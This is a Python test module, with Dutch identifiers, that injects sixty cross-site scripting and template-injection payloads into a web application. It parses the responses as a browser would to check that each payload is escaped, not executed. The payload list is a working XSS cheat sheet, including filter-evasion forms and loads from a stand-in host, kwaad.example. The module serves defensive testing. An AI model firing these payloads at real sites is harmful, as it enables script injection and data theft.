"""Sixty texts that want to be code, and a look at answers as who reads them does: a browser.

Every text calls or names its own mark inside the part that wants to be code. So where a mark
stands says what became of its text: in a text node it is read, in a tag it is carried out.
A mark has a sign that no key of a row has, so that none of those is ever taken for one.
"""

import io
import json
import re
import tomllib
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import unquote
from xml.etree import ElementTree
from xml.etree.ElementTree import Element
from zipfile import ZipFile

from icalendar import Calendar
from openpyxl import load_workbook
from tinyhtml5 import parse

VORMEN = (
    "<script>§()</script>",
    "<SCRIPT SRC=//kwaad.example/§.js></SCRIPT>",
    "<scr<script>ipt>§()</scr</script>ipt>",
    "</script><script>§()</script>",
    "</textarea><script>§()</script>",
    "</title><script>§()</script>",
    "</template><script>§()</script>",
    "</style><script>§()</script>",
    "--><script>§()</script>",
    "]]><script>§()</script>",
    "<script type=module>§()</script>",
    "<script>§`1`</script>",
    "<img src=x onerror=§()>",
    "<img/src=x/onerror=§()>",
    "<image src=x onerror=§()>",
    "<IMG SRC=javascript:§()>",
    '"><img src=x onerror=§()>',
    "'><img src=x onerror=§()>",
    '" onmouseover="§()',
    "' onmouseover='§()",
    '" autofocus onfocus="§()',
    "' autofocus onfocus='§()",
    "x onclick=§() y",
    '" style="background:url(//kwaad.example/§)',
    "<svg onload=§()>",
    "<svg/onload=§()//",
    "<svg><script>§()</script></svg>",
    "<svg><animate onbegin=§() attributeName=x>",
    "<svg><a xlink:href=javascript:§()>x</a></svg>",
    "<math href=javascript:§()>x</math>",
    "<math><mi xlink:href='data:x,§()'>x</mi></math>",
    "<a href=javascript:§()>x</a>",
    "<a href='java&#9;script:§()'>x</a>",
    "<a href='&#106;avascript:§()'>x</a>",
    "<a href=data:text/html,§()>x</a>",
    "<iframe src=javascript:parent.§()></iframe>",
    "<iframe srcdoc='<script>parent.§()</script>'>",
    "<object data=javascript:§()></object>",
    "<embed src=javascript:§()>",
    "<base href=//§.example/>",
    "<meta http-equiv=refresh content='0;url=//§.example'>",
    "<link rel=stylesheet href=//kwaad.example/§.css>",
    "<style>@import '//kwaad.example/§.css';</style>",
    "<form action=//§.example><input name=x></form>",
    "<button formaction=javascript:§()>x</button>",
    "<input autofocus onfocus=§()>",
    "<select autofocus onfocus=§()></select>",
    "<details open ontoggle=§()>x</details>",
    "<video><source onerror=§()></video>",
    "<audio src=x onerror=§()></audio>",
    "<body onload=§()>",
    "<marquee onstart=§()>x</marquee>",
    "<div style=width:expression(§())>x</div>",
    "<div onpointerover=§()>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=§()>'>",
    "&lt;script&gt;§()&lt;/script&gt;",
    "&#60;script&#62;§()&#60;/script&#62;",
    "\\u003cscript\\u003e§()\\u003c/script\\u003e",
    "{{ constructor.constructor('§()')() }}",
    "{% debug §() %}${§}<%= 1 %>",
)
MERKEN = tuple(f"q98{nummer:02}" for nummer in range(len(VORMEN)))
TEKSTEN = tuple(vorm.replace("§", merk) for vorm, merk in zip(VORMEN, MERKEN, strict=True))
ALLE = frozenset(range(len(TEKSTEN)))
MERK = re.compile(r"q98(\d\d)", re.IGNORECASE)
AFGEBROKEN = "…"
SLEUTEL = re.compile(r"[\w-]+")

LEESBAAR = {"value", "title", "aria-label", "alt", "placeholder", "data-anders", "data-voet"}
"""Attributes whose value is only read, by somebody, by a form that is sent or by our
own script or style sheet that puts it down as text."""
VERSCHIL = {"ins", "del"}
"""Pieces of a text that differ from what it was; what goes before them says so aloud."""
ADRESSEN = {"href", "action", "formaction", "src", "data-bewaar"}
VEILIG_ADRES = re.compile(r"(?!//)(/|#|\?)|https?://|mailto:")
NOOIT = re.compile(r"on|style$|srcdoc$")
"""Beginnings of the attributes that no page has, whatever stands in them."""
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RUWE_TEKST = {"script", "style", "noscript", "iframe", "noembed", "noframes", "xmp", "plaintext"}


def nummers(tekst: str) -> set[int]:
    """Which of the texts stand here, whole or not."""
    return {int(nummer) for nummer in MERK.findall(tekst)}


def geschonden(tekst: str) -> set[int]:
    """Which of the texts stand here otherwise than as they were written, white space aside.

    One that was cut off, at the end or with an ellipsis, is whole as far as it goes. A key that
    was made of a text has none of the signs that make it more than that.
    """
    dicht, mis = _dicht(tekst), set()
    for plek in MERK.finditer("" if SLEUTEL.fullmatch(dicht) else dicht):
        nummer = int(plek[1])
        heel = _dicht(TEKSTEN[nummer])
        keren = [een.start() for een in MERK.finditer(heel)]
        if not any(_staat_heel(dicht, plek.start() - keer, heel) for keer in keren):
            mis.add(nummer)
    return mis


def _dicht(tekst: str) -> str:
    return "".join(tekst.split())


def _staat_heel(tekst: str, begin: int, heel: str) -> bool:
    if begin < 0:
        return False
    stuk = tekst[begin : begin + len(heel)]
    if AFGEBROKEN in stuk:
        return heel.startswith(stuk.partition(AFGEBROKEN)[0])
    return stuk == heel or (begin + len(stuk) == len(tekst) and heel.startswith(stuk))


@dataclass
class Oordeel:
    """What a page does with the texts: where they are read, and where they are more than text."""

    gevaar: list[str] = field(default_factory=list)
    gelezen: dict[str, set[int]] = field(default_factory=dict)

    def lees(self, waar: str, tekst: str) -> None:
        """Text that is only read; it has to stand there as it was written."""
        self.gelezen.setdefault(waar, set()).update(nummers(tekst))
        self.gevaar += [f"{waar}: {TEKSTEN[nummer]} is geschonden" for nummer in geschonden(tekst)]


def oordeel(bron: str) -> Oordeel:
    """What a browser makes of a whole page."""
    uitkomst = Oordeel()
    _bekijk(parse(bron, namespace_html_elements=False), uitkomst)
    return uitkomst


def _bekijk(element: Element, uit: Oordeel) -> None:
    if not isinstance(element.tag, str):
        uit.gevaar += [f"commentaar {nummer}" for nummer in nummers(element.text or "")]
        return
    tag = element.tag.rpartition("}")[2]
    if MERK.search(tag):
        uit.gevaar.append(f"<{tag}>")
    for naam, waarde in element.attrib.items():
        if naam == "content" and element.get("name") and not element.get("http-equiv"):
            uit.lees("attribuut", waarde)
        else:
            _bekijk_attribuut(tag, naam.rpartition("}")[2], waarde, uit)
    stuk = element.text or ""
    for kind in element:
        if kind.tag in VERSCHIL:  # with the pieces around it this is one text
            stuk += "".join(uitleg.tail or "" for uitleg in kind) + (kind.tail or "")
            continue
        _bekijk_tekst(element, tag, stuk, uit)
        _bekijk(kind, uit)
        stuk = kind.tail or ""
    _bekijk_tekst(element, tag, stuk, uit)


def _bekijk_attribuut(tag: str, naam: str, waarde: str, uit: Oordeel) -> None:
    if NOOIT.match(naam) or MERK.search(naam):
        uit.gevaar.append(f"<{tag} {naam}={waarde[:60]}>")
    elif not MERK.search(waarde):
        return
    elif naam in LEESBAAR:
        uit.lees("attribuut", waarde)
    elif naam in ADRESSEN and VEILIG_ADRES.match(waarde):
        uit.lees("adres", unquote(waarde.replace("+", " ")))
    else:
        uit.gevaar.append(f"<{tag} {naam}={waarde[:60]}>")


def _bekijk_tekst(element: Element, tag: str, tekst: str, uit: Oordeel) -> None:
    if tag == "script" and element.get("type") == "application/json":
        _bekijk_eiland(tekst, uit)
    elif tag == "script" and not element.get("src"):
        uit.gevaar.append(f"<script>{tekst[:60]}")
    elif tag in RUWE_TEKST:
        uit.gevaar += [f"<{tag}>{tekst[:60]}"] if MERK.search(tekst) else []
    elif MERK.search(tekst):
        uit.lees({"title": "titel", "textarea": "invulveld"}.get(tag, "tekst"), tekst)


def _bekijk_eiland(tekst: str, uit: Oordeel) -> None:
    if "<" in tekst:
        uit.gevaar.append(f"een eiland met <: {tekst[:60]}")
        return
    for waarde in woorden(json.loads(tekst)):
        uit.lees("eiland", waarde)


def woorden(data: object) -> Iterator[str]:
    """Every text in plain data, its keys too."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for sleutel, deel in data.items():
            yield from woorden(sleutel)
            yield from woorden(deel)
    elif isinstance(data, list):
        for deel in data:
            yield from woorden(deel)


def _van_xlsx(inhoud):
    with ZipFile(io.BytesIO(inhoud)) as boek:
        for naam in boek.namelist():
            ElementTree.fromstring(boek.read(naam))  # noqa: S314 our own; here it has to be XML
    for blad in load_workbook(io.BytesIO(inhoud)):
        for cel in (cel for rij in blad for cel in rij if cel.value is not None):
            assert (cel.data_type, cel.hyperlink) == ("s", None), cel.value
            yield cel.value


def _van_ics(inhoud):
    for deel in Calendar.from_ical(inhoud).walk():
        for naam, waarde in deel.property_items(recursive=False):
            assert not nummers(naam), naam
            yield str(waarde)


LEZERS = {
    XLSX: _van_xlsx,
    "text/calendar": _van_ics,
    "application/json": lambda inhoud: woorden(json.loads(inhoud)),
    "application/toml": lambda inhoud: woorden(tomllib.loads(inhoud.decode())),
}


class Oogst:
    """What all answers together do with the texts."""

    def __init__(self) -> None:
        self.mis: list[tuple] = []
        self.gelezen: dict[str, set[int]] = defaultdict(set)
        self.soorten: dict[str, int] = defaultdict(int)

    def neem(self, antwoord, waar) -> None:
        """Look at one answer, of whatever kind; ``waar`` says which it was."""
        assert antwoord.status_code < 500, waar
        soort = antwoord.headers.get("Content-Type", "").split(";")[0]
        self.soorten[soort] += 1
        for kop, waarde in antwoord.headers.items():
            if nummers(waarde) and kop not in ("Content-Disposition", "Location"):
                self.mis.append((waar, f"{kop}: {waarde}"))
        inhoud = antwoord.getvalue() if antwoord.streaming else antwoord.content
        if soort == "text/html":
            blad = oordeel(inhoud.decode())
            self.mis += [(waar, wat) for wat in blad.gevaar]
            for plek, gevonden in blad.gelezen.items():
                self.gelezen[plek] |= gevonden
        elif soort in LEZERS:
            for tekst in LEZERS[soort](inhoud):
                self.gelezen[soort] |= nummers(tekst)
                self.mis += [(waar, TEKSTEN[nummer]) for nummer in geschonden(tekst)]
